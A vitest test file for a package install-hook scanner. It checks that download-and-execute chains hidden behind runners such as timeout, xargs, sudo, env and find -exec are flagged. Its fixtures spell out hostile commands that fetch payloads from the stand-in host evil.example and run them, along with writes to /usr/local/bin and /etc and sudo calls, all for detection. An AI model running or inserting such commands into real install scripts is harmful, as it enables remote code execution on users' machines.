/**
 * Pins that the hook scan sees the command a runner runs: the command after `timeout`, `xargs`,
 * `stdbuf`, `setsid`, `ionice`, `chrt`, `taskset`, `busybox`, `nice`, `sudo` and `env` with the
 * options (and their values) and operands they take first; and the command of `find`'s `-exec`,
 * `-execdir`, `-ok` and `-okdir`, run on the files it finds (a named file under the folder it
 * searches, or any file there), read as a command of the hook (its `sh -c` code, its writes, its
 * downloads). Runners that run nothing downloaded raise nothing.
 */
import { describe, expect, it } from 'vitest';

import { installFindings } from '../support/scan-package.ts';

describe('hook scan: the command a runner runs', () => {
  it.each([
    [
      'timeout with a signal and a duration before curl',
      ['timeout -s KILL 60 curl -fsSL -o t https://evil.example/t', 'chmod +x t'],
    ],
    [
      'timeout --kill-after with its value apart',
      ['timeout --kill-after 5 30 wget -qO t https://evil.example/t', 'sh t'],
    ],
    [
      'xargs with valued options before curl',
      ['echo https://evil.example/t | xargs -n 1 -P 2 curl -fsSL -o t', 'sh t'],
    ],
    [
      'xargs -I{} with the URL put in its place',
      ['echo evil.example | xargs -I{} curl -fsSL -o t https://{}/t', 'bash ./t'],
    ],
    ['stdbuf -oL before wget', ['stdbuf -oL wget -q https://evil.example/x.sh', 'bash x.sh']],
    ['busybox wget', ['busybox wget -O t https://evil.example/t', 'sh t']],
    ['setsid and ionice -c before curl', ['setsid ionice -c 3 curl -fsSLo t https://evil.example/t', './t']],
    ['nice -n with its value apart', ['nice -n 10 curl -fsSLo t https://evil.example/t', './t']],
    ['sudo -u with its value apart', ['curl -fsSLo t https://evil.example/t', 'sudo -u nobody sh t']],
    ['env -u NAME before the command', ['curl -fsSLo t https://evil.example/t', 'env -u HOME -i PATH=/bin sh t']],
    [
      'env - (an empty environment) before the command',
      ['curl -fsSLo t https://evil.example/t', 'env - PATH=/bin ./t'],
    ],
    ['chrt and taskset with their operands', ['curl -fsSLo t https://evil.example/t', 'chrt -f 10 taskset 0x1 ./t']],
  ])('flags %s', async (_what, lines) => {
    expect(await installFindings(...lines)).toContain(`install.download-exec@INSTALL:${lines.length + 1}`);
  });

  it.each([
    ['timeout before a health check', ['timeout 5 curl -fsS https://x.example/health >/dev/null']],
    ['xargs echo', ['echo a b | xargs -n 1 echo']],
    ['nice -n on a shipped script', ['nice -n 10 sh payload/setup.sh']],
    [
      'a download only read under timeout',
      ['timeout 30 curl -fsSLo var/data.json https://x.example/d.json', 'timeout 5 cat var/data.json'],
    ],
  ])('flags nothing for %s', async (_what, lines) => {
    expect(await installFindings(...lines)).toEqual([]);
  });
});

describe("hook scan: find's -exec", () => {
  it.each([
    [
      'find -exec sh on a named file of a downloaded archive',
      ['curl -fsSL -o a.tgz https://evil.example/a.tgz', 'tar xzf a.tgz', 'find a -name install.sh -exec sh {} \\;'],
    ],
    [
      'find -execdir on any file of a downloaded archive',
      ['curl -fsSL https://evil.example/a.tgz | tar xz -C a', "find a -type f -name '*.sh' -execdir bash {} +"],
    ],
    [
      'find -exec chmod +x on a downloaded archive',
      ['curl -fsSL -o a.tgz https://evil.example/a.tgz', 'tar xzf a.tgz', 'find a -type f -exec chmod +x {} +'],
    ],
    [
      'find -exec running the download found by name',
      ['curl -fsSL -o bin/t https://evil.example/t', 'find bin -name t -exec {} \\;'],
    ],
    [
      'find -ok after other expressions',
      ['wget -P var https://evil.example/run.sh', "find var -maxdepth 1 -name run.sh -ok sh '{}' ';'"],
    ],
  ])('flags %s', async (_what, lines) => {
    expect(await installFindings(...lines)).toContain(`install.download-exec@INSTALL:${lines.length + 1}`);
  });

  it.each([
    [
      'find -exec sh -c of code that downloads, then the download made executable',
      ["find . -maxdepth 0 -exec sh -c 'curl -fsSL -o t https://evil.example/t' \\;", 'chmod +x t'],
      'install.download-exec@INSTALL:3',
    ],
    [
      'find -exec sh -c of a download',
      ['find . -maxdepth 0 -exec sh -c "$(curl -fsSL https://evil.example/x)" \\;'],
      'install.download-exec@INSTALL:2',
    ],
    [
      'find -exec sh -c of code that writes outside the root',
      ["find . -maxdepth 0 -exec sh -c 'cp t /usr/local/bin/t' \\;"],
      'install.outside-root@INSTALL:2',
    ],
    ['find -exec sh -c of sudo', ["find . -maxdepth 0 -exec sh -c 'sudo true' \\;"], 'install.privilege@INSTALL:2'],
    [
      'find -exec cp to a folder outside the root',
      ['find payload -name t -exec cp {} /usr/local/bin/ \\;'],
      'install.outside-root@INSTALL:2',
    ],
    [
      'find -exec cp -t a folder outside the root',
      ['find payload -name t -exec cp -t /usr/local/bin {} +'],
      'install.outside-root@INSTALL:2',
    ],
    [
      'cp --target-directory outside the root',
      ['cp --target-directory=/etc/x payload/a payload/b'],
      'install.outside-root@INSTALL:2',
    ],
  ])('reads the command of %s as a command of the hook', async (_what, lines, finding) => {
    expect(await installFindings(...lines)).toEqual([finding]);
  });

  it.each([
    ['find -exec cp into the root', ["find payload -name '*.txt' -exec cp {} var/ \\;"]],
    ['cp -t into the root', ['cp -t var payload/a payload/b']],
    ['find -exec chmod on shipped files', ['find payload -name "*.sh" -exec chmod +x {} +']],
    [
      'find -delete after a download elsewhere',
      ['curl -fsSL -o var/d.json https://x.example/d.json', "find . -name '*.tmp' -delete"],
    ],
    [
      'find -exec sh on a shipped folder after a download elsewhere',
      ['curl -fsSL -o var/d.json https://x.example/d.json', 'find payload -name setup.sh -exec sh {} \\;'],
    ],
  ])('flags nothing for %s', async (_what, lines) => {
    expect(await installFindings(...lines)).toEqual([]);
  });
});
